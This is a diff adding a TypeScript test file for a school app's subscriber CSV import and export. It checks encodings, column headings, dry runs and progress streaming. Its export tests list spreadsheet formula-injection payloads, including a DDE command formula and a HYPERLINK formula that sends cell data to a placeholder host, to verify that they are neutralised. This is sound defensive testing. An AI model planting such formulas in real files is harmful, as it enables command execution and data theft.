@@ -1,0 +1,276 @@
+import { and, eq } from 'drizzle-orm';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { ERROR_MESSAGES, errorBodySchema } from '#contract/errors.ts';
+import { FIELD_MESSAGES } from '#contract/fields.ts';
+import {
+  IMPORT_MAX_BYTES,
+  IMPORT_MESSAGES,
+  importEvent,
+  importReply,
+  SUBSCRIBER_MESSAGES,
+  subscriberRoutes,
+} from '#contract/subscribers.ts';
+import { subscribers } from '#server/db/schema.ts';
+import { buildTestApp, type TestApp } from '#test/app.ts';
+import { MULTIPART, multipartBody } from '#test/examples.ts';
+import { createSchool, type TestSchool } from '#test/factories.ts';
+
+const { importSubscribers, exportSubscribers } = subscriberRoutes;
+
+let test: TestApp;
+let school: TestSchool;
+beforeAll(async () => {
+  test = await buildTestApp();
+});
+beforeEach(async () => {
+  school = await createSchool(test);
+});
+afterAll(async () => await test.close());
+
+function send(file: string | Buffer, more: { dryRun?: boolean; accept?: string; by?: TestSchool } = {}) {
+  const parts = [{ name: 'file', filename: 'parents.csv', content: Buffer.from(file) }];
+  const dryRun = { name: 'dry_run', content: Buffer.from('true') };
+  return test.call(importSubscribers, {
+    token: (more.by ?? school).owner.token,
+    body: multipartBody(more.dryRun ? [dryRun, ...parts] : parts),
+    headers: { ...MULTIPART, ...(more.accept !== undefined && { accept: more.accept }) },
+  });
+}
+
+const imported = async (...given: Parameters<typeof send>) => (await send(...given)).ok().import;
+const refusal = async (...given: Parameters<typeof send>) => {
+  const answer = await send(...given);
+  expect(answer.status).toBe(400);
+  return answer.error().error_message;
+};
+
+async function stored(of: TestSchool = school): Promise<string[]> {
+  const rows = await test.house.database
+    .orm()
+    .select()
+    .from(subscribers)
+    .where(eq(subscribers.schoolId, of.id))
+    .orderBy(subscribers.email);
+  return rows.map(({ firstName, lastName, email }) => `${firstName} ${lastName} <${email}>`);
+}
+
+async function unsubscribe(email: string): Promise<void> {
+  const whose = and(eq(subscribers.schoolId, school.id), eq(subscribers.email, email));
+  await test.house.database.orm().update(subscribers).set({ status: 'unsubscribed' }).where(whose);
+}
+
+const utf16 = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le');
+
+describe('a file as it comes', () => {
+  const both = ['José Nuñez <jose@x.example>', 'Zoë O’Neil <zoe@x.example>'];
+  const rows = 'José,Nuñez,jose@x.example\r\n\r\n"Zoë","O’Neil",ZOE@x.example\r\n';
+  const csv = `First name,Last name,Email\r\n${rows}`;
+
+  it.each([
+    ['UTF-8', Buffer.from(csv)],
+    ['UTF-8 as Excel marks it', Buffer.from(`\uFEFF${csv}`)],
+    ['UTF-16LE, with tabs, as Excel’s Unicode text', utf16(csv.replaceAll(',', '\t'))],
+    ['UTF-16BE', utf16(csv).swap16()],
+    ['UTF-16LE without its mark', Buffer.from(csv, 'utf16le')],
+    ['Windows-1252', Buffer.from(csv.replaceAll('’', '\x92'), 'latin1')],
+    ['semicolons, as Excel writes in Europe', Buffer.from(csv.replaceAll(',', ';'))],
+    ['a line that names the separator', Buffer.from(`sep=;\r\n${csv.replaceAll(',', ';')}`)],
+    ['line ends of old Macs', Buffer.from(csv.replaceAll('\r\n', '\r'))],
+    ['line ends of Unix', Buffer.from(csv.replaceAll('\r\n', '\n'))],
+    ['no last line end, and spaces', Buffer.from(csv.trimEnd().replaceAll(',', ' , ').replaceAll('" ', '"'))],
+  ])('is read: %s', async (_, bytes) => {
+    const result = await imported(bytes);
+    expect(result).toMatchObject({ added: 2, updated: 0, skipped: 0, errors: [] });
+    expect(await stored()).toEqual(both);
+  });
+
+  it.each([
+    ['email,FIRST_NAME,Last_Name', 'ann@x.example,Ann,Lee'],
+    ['Surname;Forename;E-Mail', 'Lee;Ann;ann@x.example'],
+    ['E-mail Address,Given Name,Family Name', 'ann@x.example,Ann,Lee'],
+    ['Parent forename,Parent surname,Parent email', 'Ann,Lee,ann@x.example'],
+    ['Prénom,Nom,E-mail', 'Ann,Lee,ann@x.example'],
+    ['Full name,Email', 'Ann Lee,ann@x.example'],
+    ['Name,Email', '"Lee, Ann",Ann Lee <ann@x.example>'],
+    ['Class,First Name,Last Name,Email Address,Phone', '4B,Ann,Lee,mailto:ann@x.example,020'],
+  ])('is understood by its headings: %s', async (heading, row) => {
+    const result = await imported(`${heading}\n${row}\n`);
+    expect(result.errors).toEqual([]);
+    expect(await stored()).toEqual(['Ann Lee <ann@x.example>']);
+    expect(result.ignored_columns).toEqual(heading.startsWith('Class') ? ['Class', 'Phone'] : []);
+  });
+
+  it.each([
+    ['', IMPORT_MESSAGES.empty],
+    ['  \r\n \n', IMPORT_MESSAGES.empty],
+    ['First name,Last name,Email\n', IMPORT_MESSAGES.noPeople],
+    ['Ann,Lee,ann@x.example\n', IMPORT_MESSAGES.noEmail('Ann, Lee, ann@x.example')],
+    ['Email\nann@x.example\n', IMPORT_MESSAGES.noNames('Email')],
+    ['Email,Name,E-mail\na,b,c', IMPORT_MESSAGES.twoColumns('E-mail')],
+    ['Name,Email\n"Ann,ann@x.example\nBen,ben@x.example\n', IMPORT_MESSAGES.quote(2)],
+    ['PK\x03\x04...', IMPORT_MESSAGES.workbook],
+    ['%PDF-1.7', IMPORT_MESSAGES.notText],
+    ['Name,Em\0ail\n', IMPORT_MESSAGES.notText],
+  ])('is refused with a sentence: %j', async (file, message) => {
+    expect(await refusal(file)).toBe(message);
+  });
+
+  it('is refused when it is missing, too long or too large', async () => {
+    const body = multipartBody([{ name: 'dry_run', content: Buffer.from('true') }]);
+    const none = await test.call(importSubscribers, {
+      token: school.owner.token,
+      body,
+      headers: MULTIPART,
+    });
+    expect(none.error().errors).toEqual({ file: [SUBSCRIBER_MESSAGES.chooseFile] });
+    expect(await refusal(`Name,Email\n${'a b,c@d.example\n'.repeat(20_001)}`)).toBe(IMPORT_MESSAGES.tooMany);
+    const large = await send(Buffer.alloc(IMPORT_MAX_BYTES + 1, 'a'));
+    expect(large.status).toBe(413);
+    expect(large.error().error_message).toBe(ERROR_MESSAGES.fileTooLarge);
+  });
+});
+
+const MIXED = [
+  'first_name,last_name,email,status',
+  'Ann,Lee,ann@x.example,',
+  'Ben,New,ben@x.example,',
+  '',
+  'Cat,Gone,cat@x.example,',
+  'Dan,Erased,dan@x.example,',
+  'Eve,Fresh,eve@x.example,subscribed',
+  '"Eve\nTwice",Fresh,EVE@x.example,',
+  ',Nameless,not an address,',
+  'Fay,Left,fay@x.example,Unsubscribed',
+].join('\n');
+
+describe('an import', () => {
+  beforeEach(async () => {
+    await imported('Name,Email\nAnn Lee,ann@x.example\nBen Old,ben@x.example\nCat Gone,cat@x.example\n');
+    await unsubscribe('cat@x.example');
+    const dan = (await imported('Name,Email\nDan Erased,dan@x.example\n')).lines[0];
+    await unsubscribe('dan@x.example');
+    const { data } = (
+      await test.call(subscriberRoutes.listSubscribers, {
+        token: school.owner.token,
+        query: { search_string: dan?.email ?? '' },
+      })
+    ).ok().subscribers;
+    await test.call(subscriberRoutes.deleteSubscriber, {
+      token: school.owner.token,
+      params: { id: data[0]?.id ?? '' },
+    });
+  });
+
+  const wanted = [
+    [2, 'skipped', IMPORT_MESSAGES.same],
+    [3, 'updated', IMPORT_MESSAGES.renamed('Ben Old')],
+    [5, 'skipped', IMPORT_MESSAGES.unsubscribed],
+    [6, 'skipped', IMPORT_MESSAGES.unsubscribed],
+    [7, 'added', undefined],
+    [8, 'skipped', IMPORT_MESSAGES.twice(7)],
+    [10, 'error', `First name: ${FIELD_MESSAGES.required}. Email: ${FIELD_MESSAGES.email}`],
+    [11, 'skipped', IMPORT_MESSAGES.marked],
+  ];
+
+  it('says line by line what it would do, and does nothing, as a dry run', async () => {
+    const before = await stored();
+    const result = await imported(MIXED, { dryRun: true });
+    expect(result.lines.map(({ line, outcome, message }) => [line, outcome, message])).toEqual(wanted);
+    expect(result).toMatchObject({ dry_run: true, added: 1, updated: 1, skipped: 5 });
+    expect(result.errors).toEqual([{ line: 10, message: wanted[6]?.[2] }]);
+    expect(await stored()).toEqual(before);
+  });
+
+  it('does what the dry run said, and nothing more the second time', async () => {
+    const dry = await imported(MIXED, { dryRun: true });
+    expect(await imported(MIXED)).toEqual({ ...dry, dry_run: false });
+    expect(await stored()).toEqual([
+      'Ann Lee <ann@x.example>',
+      'Ben New <ben@x.example>',
+      'Cat Gone <cat@x.example>',
+      'Eve Fresh <eve@x.example>',
+    ]);
+    expect(await imported(MIXED)).toMatchObject({ added: 0, updated: 0, skipped: 7 });
+    const left = await test.house.database
+      .orm()
+      .select({ email: subscribers.email })
+      .from(subscribers)
+      .where(and(eq(subscribers.schoolId, school.id), eq(subscribers.status, 'unsubscribed')));
+    expect(left).toEqual([{ email: 'cat@x.example' }]);
+  });
+
+  it('tells its progress to who asks for it, one JSON value a line', async () => {
+    const people = Array.from({ length: 600 }, (_, index) => `P${index},Q,p${index}@x.example`);
+    const file = `first_name,last_name,email\n${people.join('\n')}\n`;
+    const answer = await send(file, { accept: 'application/x-ndjson' });
+    expect(answer.headers['content-type']).toBe('application/x-ndjson');
+    const lines = answer.text.trimEnd().split('\n');
+    const told = lines.slice(0, -1).map((line) => importEvent.parse(JSON.parse(line)).progress);
+    expect(told[0]).toEqual({ done: 0, total: 600 });
+    expect(told.length).toBeGreaterThan(1);
+    expect(importReply.parse(JSON.parse(lines.at(-1) ?? '')).import).toMatchObject({
+      added: 600,
+      errors: [],
+    });
+    expect(await stored()).toHaveLength(604 - 1);
+    const broken = await send('Name\nAnn', { accept: 'application/x-ndjson' });
+    expect(broken.status).toBe(400);
+    expect(errorBodySchema.parse(JSON.parse(broken.text)).error_message).toBe(
+      IMPORT_MESSAGES.noEmail('Name'),
+    );
+  });
+});
+
+describe('an export', () => {
+  // What spreadsheets have been made to run by.
+  const formulas = [
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(1)',
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x.example?"&A1,"a")',
+    '＝1',
+    "'=1",
+    "''=1",
+    "'quoted'",
+    'a;b\t"c",d',
+    'Zoë',
+  ];
+
+  it('runs nothing in a spreadsheet, and an import reads back the same', async () => {
+    for (const [index, name] of formulas.entries()) {
+      const person = { first_name: name, last_name: name, email: `p${index}@x.example` };
+      const call = { token: school.owner.token, body: { subscriber: person } };
+      (await test.call(subscriberRoutes.createSubscriber, call)).ok();
+    }
+    const answer = await test.call(exportSubscribers, { token: school.owner.token });
+    expect(answer.headers).toMatchObject({
+      'content-type': 'text/csv; charset=utf-8',
+      'content-disposition': 'attachment; filename="subscribers.csv"',
+    });
+    expect(answer.text.startsWith('\uFEFFfirst_name,last_name,email')).toBe(true);
+    const cells = answer.text
+      .split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)
+      .map((cell) => cell.replace(/^"/, ''));
+    expect(cells.filter((cell) => /^[=+\-@\t\r\n＝]/.test(cell))).toEqual([]);
+    expect(await imported(answer.text, { dryRun: true })).toMatchObject({
+      added: 0,
+      updated: 0,
+      skipped: formulas.length,
+      errors: [],
+    });
+    const other = await createSchool(test);
+    await imported(answer.text, { by: other });
+    expect(await stored(other)).toEqual(await stored());
+  });
+
+  it('does not bring back elsewhere who has unsubscribed here', async () => {
+    await imported('Name,Email\nAnn Lee,ann@x.example\nBen Old,ben@x.example\n');
+    await unsubscribe('ben@x.example');
+    const { text } = await test.call(exportSubscribers, { token: school.owner.token });
+    const other = await createSchool(test);
+    expect(await imported(text, { by: other })).toMatchObject({ added: 1, skipped: 1 });
+    expect(await stored(other)).toEqual(['Ann Lee <ann@x.example>']);
+  });
+});
